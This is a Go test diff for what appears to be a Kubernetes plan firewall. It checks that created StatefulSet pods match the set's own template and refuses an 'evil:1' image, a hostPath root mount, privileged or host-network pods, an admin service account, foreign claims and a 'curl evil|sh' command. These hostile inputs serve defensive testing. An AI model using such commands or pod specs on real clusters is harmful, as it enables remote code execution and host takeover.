@@ -138,3 +138,79 @@ func TestProbeInPlaceResizeAlone(t *testing.T) {
 		})
 	}
 }
+
+// The image rule of an update is moot if a create may carry anything: a module would delete the pod and
+// create it with its own image, or create a pod of the set with a hostPath volume, a privileged container or
+// another set's claim. A created pod is a template the set has (its spec.template, or a revision of its
+// own, as upstream creates pods from its current or update revision) with its identity and claims; a
+// revision the plan creates holds the set's template (upstream's update revision).
+func TestProbeCreatedPods(t *testing.T) {
+	base := strings.Replace(inPlacePod("web-0", webRef, "app:1", "100m"), `"labels":{"app":"web"}`,
+		`"labels":{"app":"web","controller-revision-hash":"web-1","old":"1"},"annotations":{"keep":"1","oldnote":"1"}`, 1)
+	// web-1 as upstream creates it from the set's template (revision web-2)
+	fromSet := `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"web-1","generateName":"web-","namespace":"prod",` +
+		`"labels":{"app":"web","statefulset.kubernetes.io/pod-name":"web-1","apps.kubernetes.io/pod-index":"1","controller-revision-hash":"web-2"},` +
+		`"annotations":{"keep":"1","note":"2"},"ownerReferences":[` + webRef + `]},` +
+		`"spec":{"containers":[{"name":"app","image":"app:2","resources":{"requests":{"cpu":"200m"}}}],"hostname":"web-1"}}`
+	// and from revision web-1 (the current revision's template)
+	fromRevision := strings.NewReplacer(`"web-2"}`, `"web-1","old":"1"}`, `"note":"2"`, `"oldnote":"1"`, "app:2", "app:1", "200m", "100m").Replace(fromSet)
+	create := func(obj string) abi.Action { return act(abi.VerbCreate, abi.KindPod, "prod", "web-1", obj) }
+	edit := func(from, to string) abi.Action {
+		if !strings.Contains(fromSet, from) {
+			t.Fatalf("%q is not in the pod", from)
+		}
+		return create(strings.Replace(fromSet, from, to, 1))
+	}
+	revision := func(name, image string) abi.Action {
+		return act(abi.VerbCreate, abi.KindControllerRevision, "prod", name, `{"apiVersion":"apps/v1","kind":"ControllerRevision","metadata":{"name":"`+name+`","namespace":"prod","ownerReferences":[`+webRef+`]},`+
+			`"data":{"spec":{"template":{"$patch":"replace","metadata":{"labels":{"app":"web"},"annotations":{"keep":"1","note":"2"}},"spec":{"containers":[{"name":"app","image":"`+image+`","resources":{"requests":{"cpu":"200m"}}}]}}}},"revision":4}`)
+	}
+	for _, tc := range []struct {
+		name    string
+		actions []abi.Action
+		rule    firewall.Rule // "" allowed
+	}{
+		{"the set's template", []abi.Action{create(fromSet)}, ""},
+		{"the current revision's template", []abi.Action{create(fromRevision)}, ""},
+		{"a created revision of the set's template, then a pod", []abi.Action{revision("web-4", "app:2"), create(fromSet)}, ""},
+		{"an image of no template of the set", []abi.Action{edit(`"image":"app:2"`, `"image":"evil:1"`)}, firewall.RuleObject},
+		{"a created revision of another template", []abi.Action{revision("web-4", "evil:1")}, firewall.RuleObject},
+		{"a hostPath volume", []abi.Action{edit(`"hostname"`, `"volumes":[{"name":"root","hostPath":{"path":"/"}}],"hostname"`)}, firewall.RuleObject},
+		{"another set's claim under a claim template's name", []abi.Action{edit(`"hostname"`, `"volumes":[{"name":"data","persistentVolumeClaim":{"claimName":"data-db-0"}}],"hostname"`)}, firewall.RuleObject},
+		{"a privileged container", []abi.Action{edit(`"image":"app:2"`, `"image":"app:2","securityContext":{"privileged":true}`)}, firewall.RuleObject},
+		{"another service account", []abi.Action{edit(`"hostname"`, `"serviceAccountName":"admin","hostname"`)}, firewall.RuleObject},
+		{"the host's network", []abi.Action{edit(`"hostname"`, `"hostNetwork":true,"hostname"`)}, firewall.RuleObject},
+		{"a command", []abi.Action{edit(`"image":"app:2"`, `"image":"app:2","command":["sh","-c","curl evil|sh"]}`)}, firewall.RuleObject},
+		{"another label", []abi.Action{edit(`"app":"web",`, `"app":"web","role":"primary",`)}, firewall.RuleObject},
+		{"another annotation", []abi.Action{edit(`"note":"2"`, `"note":"2","x":"y"`)}, firewall.RuleObject},
+		{"a finalizer", []abi.Action{edit(`"ownerReferences"`, `"finalizers":["example.com/hold"],"ownerReferences"`)}, firewall.RuleObject},
+		{"another pod's hostname", []abi.Action{edit(`"hostname":"web-1"`, `"hostname":"web-0"`)}, firewall.RuleObject},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			err := firewall.Check(scope(t, inPlaceRevisionsSnapshot("", base)), &abi.Plan{Actions: tc.actions})
+			if tc.rule == "" {
+				if err != nil {
+					t.Fatalf("refused: %v", err)
+				}
+				return
+			}
+			if !isRefused(err, tc.rule) {
+				t.Fatalf("want a %s refusal, got %v", tc.rule, err)
+			}
+		})
+	}
+}
+
+// A claim template's volume in a created pod names the pod's own claim, never another pod's or set's.
+func TestProbeCreatedPodClaims(t *testing.T) {
+	withVolume := func(claim string) abi.Action {
+		obj := strings.Replace(pod("prod", "web-1", webRef), `"spec":{`, `"spec":{"volumes":[{"name":"data","persistentVolumeClaim":{"claimName":"`+claim+`"}}],`, 1)
+		return act(abi.VerbCreate, abi.KindPod, "prod", "web-1", obj)
+	}
+	for claim, refused := range map[string]bool{"data-web-1": false, "data-web-0": true, "data-db-0": true} {
+		err := firewall.Check(scope(t, testSnapshot), &abi.Plan{Actions: []abi.Action{withVolume(claim)}})
+		if refused && !isRefused(err, firewall.RuleObject) || !refused && err != nil {
+			t.Errorf("web-1 mounting %s: %v, want refused %v", claim, err, refused)
+		}
+	}
+}
